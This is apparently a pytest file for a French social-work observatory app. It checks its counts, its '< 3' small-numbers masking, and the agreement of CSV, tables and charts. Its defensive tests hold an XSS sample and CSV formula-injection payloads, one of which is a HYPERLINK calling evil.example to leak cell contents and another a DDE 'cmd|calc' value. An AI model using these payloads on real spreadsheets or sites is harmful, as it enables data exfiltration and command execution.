"""The observatory's pages: figures against direct SQL counts, the "< 3" rule, CSV = table = SVG, quotes."""

from __future__ import annotations

import csv
import io
import re
from html.parser import HTMLParser

import pytest
from sqlalchemy import text

from kb.db import get_engine
from kb.models import Barrier, Effect
from tests.conftest import post_form


class Tables(HTMLParser):
    """Every <table> of a page as its caption and its rows of cell texts; every <svg> as its <text>s."""

    def __init__(self) -> None:
        super().__init__()
        self.tables: list[dict] = []
        self.svgs: list[list[str]] = []
        self._cell: list[str] | None = None
        self._caption = self._in_svg_text = self._in_title = False

    def handle_starttag(self, tag, attrs):
        if tag == "table":
            self.tables.append({"caption": "", "rows": []})
        elif tag == "caption":
            self._caption = True
        elif tag == "tr" and self.tables:
            self.tables[-1]["rows"].append([])
        elif tag in ("td", "th") and self.tables:
            self._cell = []
        elif tag == "svg":
            self.svgs.append([])
        elif tag == "text" and self.svgs:
            self._in_svg_text = True
            self.svgs[-1].append("")
        elif tag == "title":
            self._in_title = True

    def handle_endtag(self, tag):
        if tag == "caption":
            self._caption = False
        elif tag in ("td", "th") and self._cell is not None:
            self.tables[-1]["rows"][-1].append(re.sub(r"[ \t\r\n]+", " ", "".join(self._cell)).strip())
            self._cell = None
        elif tag == "text":
            self._in_svg_text = False
        elif tag == "title":
            self._in_title = False

    def handle_data(self, data):
        if self._caption:
            self.tables[-1]["caption"] += data
        elif self._cell is not None:
            self._cell.append(data)
        elif self._in_svg_text and not self._in_title:
            self.svgs[-1][-1] += data


def parse(html: str) -> Tables:
    found = Tables()
    found.feed(html)
    return found


def table_titled(page: Tables, title: str) -> list[list[str]]:
    return next(t["rows"] for t in page.tables if t["caption"].strip().startswith(title))


def read_csv(response) -> list[list[str]]:
    body = response.get_data(as_text=True)
    assert body.startswith("\ufeff")
    return list(csv.reader(io.StringIO(body[1:]), delimiter=";"))


PUBLIC = "a.publication_status IN ('publiee', 'archivee') AND a.hidden_at IS NULL"


def test_barrier_cross_table_matches_a_direct_sql_count(demo_app, demo_client):
    with get_engine(demo_app).connect() as db:
        counted = {(k, c): (n, acts) for k, c, n, acts in db.execute(text(
            "SELECT b.kind, b.actor_category, count(*), count(DISTINCT b.action_id) FROM barrier b "
            f"JOIN field_action a ON a.id = b.action_id WHERE {PUBLIC} GROUP BY b.kind, b.actor_category"))}
        total = db.execute(text(f"SELECT count(*) FROM barrier b JOIN field_action a ON a.id = b.action_id "
                                f"WHERE {PUBLIC}")).scalar()
    rows = table_titled(parse(demo_client.get("/observatoire/comparaison").get_data(as_text=True)), "Freins cités")
    header, body = rows[0], rows[1:]
    kinds = ["institutionnel", "financier", "organisationnel", "partenarial", "posture", "public", "autre"]
    actors = ["direction", "chef_service", "intervenant", "autre"]
    assert header[1::2] == ["Cadre de direction", "Chef·fe de service", "Intervenant·e social·e", "Autre acteur",
                            "Total"]
    assert len(body) == len(kinds) + 1
    for kind, line in zip(kinds, body, strict=False):
        for j, actor in enumerate(actors):
            value, actions = counted.get((kind, actor), (0, 0))
            shown = line[1 + 2 * j]
            assert shown == ("< 3" if 0 < actions < 3 else str(value)), (kind, actor)
            column_total = sum(n for (k, c), (n, _) in counted.items() if c == actor)
            if shown != "< 3" and column_total:
                assert line[2 + 2 * j] == f"{round(100 * value / column_total)}\u202f%"
    assert body[-1][0] == "Total" and body[-1][-2] == str(total)
    assert sum(n for n, _ in counted.values()) == total > 100  # the demo gives the table something to say


def test_a_figure_from_fewer_than_three_actions_shows_as_less_than_three(session, make, client):
    actions = [make.action(title=f"Action {n}") for n in range(2)]
    draft = make.action(title="Brouillon", publication_status="brouillon")
    session.commit()
    rows = table_titled(parse(client.get("/observatoire/comparaison").get_data(as_text=True)), "Freins cités")
    institutional = next(r for r in rows if r[0] == "Institutionnel")
    assert institutional[3] == "< 3" and institutional[4] == "–"  # chef·fe de service, and its share hidden
    assert "2" not in institutional[1:]  # neither the count nor a total gives it away
    third = make.action(title="Action 3")
    session.commit()
    rows = table_titled(parse(client.get("/observatoire/comparaison").get_data(as_text=True)), "Freins cités")
    institutional = next(r for r in rows if r[0] == "Institutionnel")
    assert institutional[3] == "3" and institutional[4] == "100\u202f%"
    assert draft.id not in [a.id for a in actions] and third.id  # the draft never counted: 3, not 4


def test_many_barriers_from_two_actions_still_hide(session, make, client):
    for n in range(2):
        action = make.action(title=f"Action {n}")
        action.barriers += [Barrier(kind="financier", actor_category="direction", description=f"Frein {i}")
                            for i in range(4)]
    session.commit()
    rows = table_titled(parse(client.get("/observatoire/comparaison").get_data(as_text=True)), "Freins cités")
    assert next(r for r in rows if r[0] == "Financier")[1] == "< 3"  # 8 barriers, but from 2 actions


@pytest.mark.parametrize("name", ["actions-par-territoire", "actions-par-annee", "actions-par-public",
                                  "actions-par-theme", "freins-par-acteur", "effets-par-preuve",
                                  "actions-par-commune"])
def test_csv_holds_exactly_the_table_of_the_page(demo_client, name):
    page = parse(demo_client.get("/observatoire/?territory=marseille").get_data(as_text=True))
    response = demo_client.get(f"/observatoire/donnees/{name}.csv?territory=marseille")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    rows = read_csv(response)
    tables = [t["rows"] for t in page.tables if t["rows"] and t["rows"][0] == rows[0]]
    assert rows in tables, f"{name}: the CSV differs from the page's table"
    assert len(rows) > 2


def test_charts_hold_the_numbers_of_their_tables(demo_client):
    page = parse(demo_client.get("/observatoire/").get_data(as_text=True))
    territories = table_titled(page, "Actions par territoire")[1:-1]
    # Bars: each row's label, then its total as the table shows it.
    assert [t for line in territories for t in (line[0], line[-1])] in page.svgs
    themes = table_titled(page, "Actions par thème")[1:]
    assert [t for line in themes for t in (line[0], line[-1])] in page.svgs
    barriers = table_titled(page, "Freins cités")[1:-1]
    # The grid: each row's label, then each cell as "count · share" ("< 3" alone), totals aside.
    expected = [t for line in barriers for t in [line[0], *(
        "< 3" if line[1 + 2 * j] == "< 3" else f"{line[1 + 2 * j]} · {line[2 + 2 * j]}" for j in range(4))]]
    assert any(svg[4:] == expected for svg in page.svgs)
    years = table_titled(page, "Actions par année")[1:-1]
    # Columns: the total above, the year below.
    assert [t for line in years for t in (line[-1], line[0])] in page.svgs
    assert any("< 3" in line for line in years)  # a hidden figure has no bar, only its text


def test_territory_filter_counts_only_its_actions(demo_app, demo_client):
    with get_engine(demo_app).connect() as db:
        expected = db.execute(text(
            f"SELECT a.mode, count(*) FROM field_action a JOIN territory t ON t.id = a.territory_id "
            f"WHERE {PUBLIC} AND t.slug = 'avignon' GROUP BY a.mode")).all()
    rows = table_titled(parse(demo_client.get("/observatoire/?territory=avignon").get_data(as_text=True)),
                        "Actions par territoire")
    avignon = next(r for r in rows if r[0] == "Avignon")
    marseille = next(r for r in rows if r[0] == "Marseille")
    counts = dict(expected)
    assert avignon[1:4] == [("< 3" if 0 < counts.get(m, 0) < 3 else str(counts.get(m, 0)))
                            for m in ("groupe", "communautaire", "dsl")]
    assert marseille[1:] == ["0", "0", "0", "0"]


def test_full_text_query_narrows_every_figure(session, make, client):
    for n in range(3):
        make.action(title=f"Jardin partagé {n}", summary="Un jardin partagé au pied des immeubles du quartier.")
    make.action(title="Atelier cuisine", summary="Des familles cuisinent ensemble chaque semaine.")
    session.commit()
    everything = table_titled(parse(client.get("/observatoire/").get_data(as_text=True)), "Actions par territoire")
    gardens = table_titled(parse(client.get("/observatoire/?q=jardin").get_data(as_text=True)),
                           "Actions par territoire")
    assert everything[-1][-1] == "4" and gardens[-1][-1] == "3"


def test_barriers_page_groups_by_kind_then_actor_and_quotes_with_the_action(session, make, client):
    action = make.action(title="Café des parents <b>gras</b>")
    action.barriers.append(Barrier(kind="financier", actor_category="direction",
                                   description="<script>alert(1)</script> Le financement s'arrête en juin."))
    session.commit()
    html = client.get("/observatoire/freins").get_data(as_text=True)
    assert "<script>alert(1)" not in html and "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "Café des parents &lt;b&gt;gras&lt;/b&gt;" in html and f'href="/actions/{action.id}"' in html
    assert html.index("<h2>Institutionnel</h2>") < html.index("<h2>Financier</h2>")
    assert "Point de vue : chef·fe de service" in html and "Point de vue : cadre de direction" in html
    one = client.get("/observatoire/freins?kind=financier&actor=direction").get_data(as_text=True)
    assert "Le financement s&#39;arrête en juin." in one and "Le temps collectif" not in one


def test_barriers_page_pages_a_large_group_and_links_to_it(session, make, client):
    action = make.action()
    action.barriers += [Barrier(kind="partenarial", actor_category="intervenant", description=f"Frein n°{i:02d}")
                        for i in range(60)]
    session.commit()
    overview = client.get("/observatoire/freins").get_data(as_text=True)
    assert overview.count("Frein n°") == 20
    assert "Voir les 40 autres freins de ce groupe" in overview
    assert "/observatoire/freins?kind=partenarial&amp;actor=intervenant" in overview
    first = client.get("/observatoire/freins?kind=partenarial&actor=intervenant").get_data(as_text=True)
    second = client.get("/observatoire/freins?kind=partenarial&actor=intervenant&page=2").get_data(as_text=True)
    assert first.count("Frein n°") == 50 and second.count("Frein n°") == 10
    assert "&lt; 3 freins." in first  # 60 barriers, but all from one action


def test_levers_and_effects_pages_quote_every_published_finding(session, make, client):
    action = make.action(title="Jardin des Alyscamps")
    action.effects.append(Effect(dimension="individuel", description="Trois personnes ont repris un emploi.",
                                 indicator="personnes en emploi", evidence_kind="mesure", value_before=0,
                                 value_after=3, observer="la coordinatrice"))
    make.action(title="Projet en brouillon", publication_status="brouillon")
    session.commit()
    levers = client.get("/observatoire/leviers").get_data(as_text=True)
    assert "&lt; 3 levier." in levers and "Le soutien de la direction du centre social." in levers
    effects = client.get("/observatoire/effets").get_data(as_text=True)
    assert "Trois personnes ont repris un emploi." in effects
    assert "Indicateur : personnes en emploi ; avant : 0, après : 3 ; mesuré ; relevé par la coordinatrice" in effects
    measured = client.get("/observatoire/effets?evidence=mesure").get_data(as_text=True)
    assert "Trois personnes" in measured and "s&#39;entraident" not in measured
    unsaid = client.get("/observatoire/effets?evidence=non_precise").get_data(as_text=True)
    assert "Trois personnes" not in unsaid and "s&#39;entraident" in unsaid


def test_comparison_cells_open_the_quotes_they_count(session, make, client):
    for n in range(3):
        make.action(title=f"Action {n}")
    session.commit()
    html = client.get("/observatoire/comparaison?mode=groupe").get_data(as_text=True)
    link = re.search(r'href="(/observatoire/freins\?[^"]*kind=institutionnel[^"]*)">3</a>', html)
    assert link and "actor=chef_service" in link.group(1) and "mode=groupe" in link.group(1)
    quotes = client.get(link.group(1).replace("&amp;", "&")).get_data(as_text=True)
    assert quotes.count("Le temps collectif n&#39;est pas compté") == 3


@pytest.mark.parametrize("query, field, message", [
    ("mode=nimporte", "mode", "Mode d'intervention inconnu."),
    ("year_from=20x", "year_from", "L'année doit être un nombre entre 1900 et 2100."),
    ("year_from=2015&year_to=2010", "year_to", "L'année de fin précède l'année de début."),
    ("kind=zz", "kind", "Type de frein inconnu."),
    ("evidence=zz", "evidence", "Type de preuve inconnu."),
])
def test_bad_filters_say_so_in_french_and_still_answer(client, query, field, message):
    for page in ("/observatoire/", "/observatoire/freins", "/observatoire/effets"):
        response = client.get(f"{page}?{query}")
        assert response.status_code == 200
        assert message.replace("'", "&#39;") in response.get_data(as_text=True)


def test_unknown_csv_is_a_404(client):
    assert client.get("/observatoire/donnees/inconnu.csv").status_code == 404


def test_action_form_records_how_an_effect_is_known(session, make, sign_in, client):
    sign_in("formateur")
    action = make.action(title="Atelier cuisine")
    session.commit()
    from kb.forms.actions import action_form_values

    values = dict(action_form_values(action).items(multi=True))
    values.update({"effects-0-evidence_kind": "declare", "effects-0-observer": "les participantes",
                   "effects-0-observed_on": "15/06/2012", "effects-0-value_before": "2",
                   "effects-0-value_after": "8,5"})
    response = post_form(client, f"/actions/{action.id}/modifier", values)
    assert response.status_code == 302
    session.expire_all()
    effect = session.get(type(action), action.id).effects[0]
    assert (effect.evidence_kind, effect.observer, effect.observed_on.isoformat(), effect.value_before,
            effect.value_after) == ("declare", "les participantes", "2012-06-15", 2.0, 8.5)
    page = client.get(f"/actions/{action.id}").get_data(as_text=True)
    assert "avant : 2, après : 8,5 ; déclaré par les personnes ; relevé par les participantes le 15/06/2012" in page
    edit = client.get(f"/actions/{action.id}/modifier").get_data(as_text=True)
    assert 'value="8,5"' in edit and 'value="2012-06-15"' in edit


@pytest.mark.parametrize("field, value, message", [
    ("value_before", "beaucoup", "Saisissez un nombre"),
    ("value_after", "nan", "La valeur doit être au plus"),
    ("observed_on", "31/02/2012", "Cette date n'existe pas."),
    ("evidence_kind", "rumeur", "Choisissez une valeur de la liste."),
])
def test_bad_evidence_is_refused_next_to_its_field_keeping_the_values(session, make, sign_in, client, field, value,
                                                                       message):
    sign_in("formateur")
    action = make.action()
    session.commit()
    from kb.forms.actions import action_form_values

    values = dict(action_form_values(action).items(multi=True))
    values[f"effects-0-{field}"] = value
    values["effects-0-observer"] = "l'équipe « Jardin »"
    response = post_form(client, f"/actions/{action.id}/modifier", values)
    html = response.get_data(as_text=True)
    assert response.status_code == 422
    assert f'id="effects-0-{field}-error">{message}'.replace("'", "&#39;") in html
    assert "l&#39;équipe « Jardin »" in html


def test_figures_groups_and_merges_agree_on_both_databases(any_app):
    """The cross table, its "< 3" totals, the years (EXTRACT), the first quotes of each group (a window
    function) and a vocabulary merge give the same answers on SQLite and PostgreSQL."""
    from datetime import date

    from kb.db import new_session
    from kb.forms.observatory import ObservatoryFilters
    from kb.policy import ANONYMOUS
    from kb.services import figures, findings, tags
    from tests.factories import Factories

    with any_app.app_context(), new_session(any_app) as session:
        make = Factories(session)
        actions = [make.action(title=f"Action {n}", start_date=date(2010 + n % 2, 3, 1), publics=["Jeunes"],
                               territory_id=None if n == 4 else make.territory("arles").id) for n in range(5)]
        actions[0].barriers.append(Barrier(kind="financier", actor_category="direction", description="Budget."))
        make.action(title="Autre public", publics=["Jeunes de 16 à 25 ans"])
        session.commit()
        every = ObservatoryFilters()
        table = figures.barriers_by_kind_and_actor(session, every)
        lines = {line[0]: line for line in table.lines()}
        assert lines["Institutionnel"][3:5] == ["6", "100\u202f%"]  # 6 actions, one barrier each, all chef·fe
        assert lines["Financier"][1:3] == ["< 3", "–"] and lines["Total"][-2] == "7"
        years = figures.actions_by_year_and_mode(session, every)
        assert [line[0] for line in years.lines()] == ["2010", "2011", "2012", "Total"]
        assert [line[-1] for line in years.lines()] == ["3", "< 3", "< 3", "6"]
        territories = {line[0]: line[-1] for line in figures.actions_by_territory_and_mode(session, every).lines()}
        assert territories["Arles"] == "5" and territories["Sans territoire"] == "< 3"
        groups = findings.barrier_groups(session, every, limit=2)
        assert [(g.args, len(g.items), g.total) for g in groups] == [
            ({"kind": "institutionnel", "actor": "chef_service"}, 2, 6), ({"kind": "financier", "actor": "direction"}, 1, 1)]
        assert groups[0].items[0].action.start_date >= groups[0].items[1].action.start_date
        source, target = (tags.find_term(session, "public", slug)[0] for slug in ("jeunes", "jeunes-de-16-a-25-ans"))
        assert tags.merge_terms(session, source, target, ANONYMOUS) == 5
        session.commit()
        publics = figures.actions_by_tags(session, every)["public"]
        assert publics.lines() == [["Jeunes de 16 à 25 ans", "6"]]
        assert figures.actions_by_territory_and_mode(session, ObservatoryFilters(public="jeunes")).lines()[-1][-1] == "6"


def test_counts_of_quotes_and_of_the_dashboard_follow_the_small_numbers_rule(session, make, client):
    make.action(title="Seule action", themes=["Violences faites aux femmes"])
    session.commit()
    dashboard = client.get("/observatoire/?theme=violences-faites-aux-femmes").get_data(as_text=True)
    assert "(&lt; 3 avec ces critères)" in dashboard
    quotes = client.get("/observatoire/freins?theme=violences-faites-aux-femmes").get_data(as_text=True)
    assert "Point de vue : chef·fe de service <span class=\"count\">(&lt; 3)</span>" in quotes
    paged = client.get("/observatoire/freins?kind=institutionnel&actor=chef_service").get_data(as_text=True)
    assert "&lt; 3 frein." in paged


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(session, make, client):
    for n in range(3):
        make.action(title=f"Action {n}", themes=['=HYPERLINK("http://evil.example/?"&A1)', "+cmd|calc!A0"])
    session.commit()
    rows = read_csv(client.get("/observatoire/donnees/actions-par-theme.csv"))
    assert ["'=HYPERLINK(\"http://evil.example/?\"&A1)", "3"] in rows and ["'+cmd|calc!A0", "3"] in rows
    assert not any(cell[:1] in "=+-@" for row in rows for cell in row if cell)
